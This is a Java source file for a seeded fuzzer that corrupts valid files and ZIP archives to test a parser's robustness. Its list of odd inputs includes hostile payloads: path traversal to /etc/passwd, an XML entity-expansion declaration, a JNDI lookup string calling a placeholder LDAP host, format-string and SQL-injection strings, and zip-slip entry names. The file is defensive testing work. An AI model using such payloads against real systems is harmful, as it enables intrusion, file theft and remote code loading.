package redress;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;

/** Damages valid inputs, as transmission, other programs and ill-meaning people do. The same seed makes the same damage. */
final class Fuzz {

    private static final int LONGEST = 4_000_000;
    private static final List<String> ODD = List.of(
            "99999999999999999999999999",
            "-2147483649",
            "1e999999999",
            "1E+400000000",
            "0x7fffffff",
            "NaN",
            "\u0000",
            "\u0007\u001b[2J",
            "\u202e",
            "\ufeff",
            "\uffff",
            "../../../../etc/passwd",
            "..\\..\\windows\\system32",
            "C:\\x",
            "/dev/zero",
            "file:///etc/passwd",
            "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>",
            "<![CDATA[",
            "${jndi:ldap://x.example/a}",
            "%s%n%d",
            "{{",
            "}}",
            "'; drop table entry; --",
            "*x",
            "&x [&x]",
            "\"",
            "\r",
            "\t",
            "null",
            "31/02/2026",
            "0000-00-00",
            "9999-12-31",
            "-999999999-01-01");
    private static final List<String> NESTS = List.of("[", "{\"a\":", "<div>", "- ", "(", "{{#if x}}", "> ", "<w:sdt>");
    private static final List<Charset> OTHERS = List.of(
            StandardCharsets.UTF_16, StandardCharsets.UTF_16LE, StandardCharsets.ISO_8859_1, Charset.forName("cp037"));

    private final Random chance;

    Fuzz(long seed) {
        chance = new Random(seed);
    }

    /** One to four kinds of damage, one after the other. */
    byte[] damaged(byte[] valid) {
        byte[] bytes = valid;
        for (int times = 1 + chance.nextInt(4); times > 0 && bytes.length < LONGEST; times--) {
            bytes = once(bytes);
        }
        return bytes;
    }

    /** As {@link #damaged}, half of the time inside one of the files a ZIP file holds, or in its table of contents. */
    byte[] damagedZip(byte[] valid) {
        if (chance.nextBoolean()) {
            return damaged(valid);
        }
        Map<String, byte[]> files = unzip(valid);
        List<String> names = new ArrayList<>(files.keySet());
        String one = pick(names);
        switch (chance.nextInt(8)) {
            case 0 -> files.remove(one);
            case 1 -> files.put(pick(ODD), files.get(one));
            case 2 -> files.put("../" + one, files.remove(one));
            case 3 -> files.put(one, new byte[20_000_000]);
            case 4 -> files.put(one, valid);
            case 5 -> files.put(one, files.get(pick(names)));
            default -> files.put(one, damaged(files.get(one)));
        }
        return zip(files);
    }

    private byte[] once(byte[] bytes) {
        if (bytes.length < 2) {
            return pick(ODD).getBytes(StandardCharsets.UTF_8);
        }
        int from = chance.nextInt(bytes.length);
        int to = Math.min(bytes.length, from + 1 + chance.nextInt(chance.nextBoolean() ? 8 : 300));
        return switch (chance.nextInt(16)) {
            case 0 -> flipped(bytes, from);
            case 1 -> spliced(bytes, from, from, one(chance.nextInt(256)));
            case 2 -> spliced(bytes, from, bytes.length, new byte[0]);
            case 3 -> spliced(bytes, 0, from, new byte[0]);
            case 4 -> spliced(bytes, from, to, new byte[0]);
            case 5 -> spliced(bytes, from, from, slice(bytes, from, to));
            case 6 -> spliced(bytes, from, from, repeated(slice(bytes, from, to), 2 + chance.nextInt(400)));
            case 7 -> spliced(bytes, from, to, random(to - from));
            case 8 -> spliced(bytes, from, to, new byte[to - from]);
            case 9 -> spliced(bytes, from, from, pick(ODD).getBytes(StandardCharsets.UTF_8));
            case 10 -> words(bytes, from);
            case 11 -> number(bytes, from);
            case 12 -> lines(bytes);
            case 13 -> spliced(bytes, from, from, repeated(pick(NESTS).getBytes(StandardCharsets.UTF_8), 5_000));
            case 14 -> spliced(bytes, from, from, repeated(one('a' + chance.nextInt(26)), 150_000));
            default -> otherCharset(bytes);
        };
    }

    private byte[] flipped(byte[] bytes, int at) {
        byte[] wrong = bytes.clone();
        wrong[at] ^= (byte) (1 << chance.nextInt(8));
        return wrong;
    }

    /** One word of the file in the place of another. */
    private byte[] words(byte[] bytes, int from) {
        int start = wordStart(bytes, from);
        int end = wordEnd(bytes, from);
        int other = chance.nextInt(bytes.length);
        return spliced(bytes, start, end, slice(bytes, wordStart(bytes, other), wordEnd(bytes, other)));
    }

    /** The next number becomes one nobody thought of. */
    private byte[] number(byte[] bytes, int from) {
        int start = from;
        while (start < bytes.length && !Character.isDigit(bytes[start])) {
            start++;
        }
        int end = start;
        while (end < bytes.length && Character.isDigit(bytes[end])) {
            end++;
        }
        return spliced(bytes, start, end, ODD.get(chance.nextInt(6)).getBytes(StandardCharsets.UTF_8));
    }

    private static int wordStart(byte[] bytes, int from) {
        int start = from;
        while (start > 0 && Character.isLetterOrDigit(bytes[start - 1])) {
            start--;
        }
        return start;
    }

    private static int wordEnd(byte[] bytes, int from) {
        int end = from;
        while (end < bytes.length && Character.isLetterOrDigit(bytes[end])) {
            end++;
        }
        return end;
    }

    private byte[] lines(byte[] bytes) {
        List<String> lines = new ArrayList<>(List.of(new String(bytes, StandardCharsets.ISO_8859_1).split("\n", -1)));
        int one = chance.nextInt(lines.size());
        switch (chance.nextInt(4)) {
            case 0 -> lines.remove(one);
            case 1 -> lines.add(one, pick(lines));
            case 2 -> Collections.swap(lines, one, chance.nextInt(lines.size()));
            default -> lines.set(one, " ".repeat(1 + chance.nextInt(9)) + lines.get(one));
        }
        return String.join("\n", lines).getBytes(StandardCharsets.ISO_8859_1);
    }

    private byte[] otherCharset(byte[] bytes) {
        return new String(bytes, StandardCharsets.UTF_8).getBytes(pick(OTHERS));
    }

    private byte[] random(int length) {
        byte[] bytes = new byte[length];
        chance.nextBytes(bytes);
        return bytes;
    }

    private <T> T pick(List<T> many) {
        return many.get(chance.nextInt(many.size()));
    }

    private static byte[] one(int value) {
        return new byte[] {(byte) value};
    }

    private static byte[] slice(byte[] bytes, int from, int to) {
        byte[] slice = new byte[Math.max(0, to - from)];
        System.arraycopy(bytes, from, slice, 0, slice.length);
        return slice;
    }

    private static byte[] repeated(byte[] piece, int times) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < times && out.size() < LONGEST; i++) {
            out.writeBytes(piece);
        }
        return out.toByteArray();
    }

    private static byte[] spliced(byte[] bytes, int from, int to, byte[] instead) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(bytes, 0, from);
        out.writeBytes(instead);
        out.write(bytes, to, bytes.length - to);
        return out.toByteArray();
    }

    /** The files of a ZIP file, by their names. */
    static Map<String, byte[]> unzip(byte[] zip) {
        Map<String, byte[]> files = new LinkedHashMap<>();
        try {
            Path copy = Files.createTempFile("fuzz", ".zip");
            Files.write(copy, zip);
            try (ZipFile in = new ZipFile(copy.toFile())) {
                for (ZipEntry entry : Collections.list(in.entries())) {
                    files.put(entry.getName(), in.getInputStream(entry).readAllBytes());
                }
            }
            Files.delete(copy);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return files;
    }

    /** A ZIP file of these files. */
    static byte[] zip(Map<String, byte[]> files) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> file : files.entrySet()) {
                out.putNextEntry(new ZipEntry(file.getKey()));
                out.write(file.getValue());
                out.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** A short name for some bytes. */
    static String sum(byte[] bytes) {
        CRC32 sum = new CRC32();
        sum.update(bytes);
        return Long.toHexString(sum.getValue());
    }
}
